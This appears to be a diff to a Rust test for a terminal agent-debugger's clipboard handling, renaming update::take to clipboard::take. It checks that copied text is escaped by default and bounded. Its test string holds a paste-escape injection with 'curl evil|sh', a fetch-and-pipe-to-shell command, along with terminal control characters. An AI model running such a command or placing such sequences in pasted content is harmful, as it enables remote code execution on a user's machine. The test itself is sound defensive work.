@@ -681,7 +681,7 @@ fn a_cancelled_search_thread_stops() {
 fn copy_is_escaped_by_default_raw_on_its_own_key_and_bounded() {
     let mut s = with_run(load("agentdbg/runs/run-7f3a"));
     let hostile = "ok\u{1b}[201~\rcurl evil|sh\n\u{9b}\u{202e}\u{7}".to_string();
-    super::update::take(&mut s, hostile.clone(), "value", Command::Copy);
+    super::clipboard::take(&mut s, hostile.clone(), "value", Command::Copy);
     match s.effects.pop() {
         Some(Effect::Copy(v)) => {
             assert!(
@@ -697,15 +697,15 @@ fn copy_is_escaped_by_default_raw_on_its_own_key_and_bounded() {
         s.message.as_ref().unwrap().text.contains("alt-y"),
         "the status says how to copy it raw"
     );
-    super::update::take(&mut s, hostile.clone(), "value", Command::CopyRaw);
+    super::clipboard::take(&mut s, hostile.clone(), "value", Command::CopyRaw);
     assert!(matches!(s.effects.pop(), Some(Effect::Copy(v)) if v == hostile));
     // Pretty JSON is copied as one line.
-    super::update::take(&mut s, "{\n  \"a\": [\n    1\n  ]\n}".into(), "payload", Command::Copy);
+    super::clipboard::take(&mut s, "{\n  \"a\": [\n    1\n  ]\n}".into(), "payload", Command::Copy);
     assert!(matches!(s.effects.pop(), Some(Effect::Copy(v)) if v == r#"{"a":[1]}"#));
     // Too large for one OSC 52 sequence: nothing is sent, and the status says so.
-    super::update::take(
+    super::clipboard::take(
         &mut s,
-        "x".repeat(super::update::CLIPBOARD_MAX + 1),
+        "x".repeat(super::clipboard::CLIPBOARD_MAX + 1),
         "value",
         Command::Copy,
     );
@@ -717,7 +717,7 @@ fn copy_is_escaped_by_default_raw_on_its_own_key_and_bounded() {
         m.text
     );
     // The pager gets the escaped text with its newlines.
-    super::update::take(&mut s, "a\nb\u{1b}".into(), "value", Command::Pager);
+    super::clipboard::take(&mut s, "a\nb\u{1b}".into(), "value", Command::Pager);
     assert!(matches!(s.effects.pop(), Some(Effect::Page(v)) if v == "a\nb\\x1b"));
 }
 
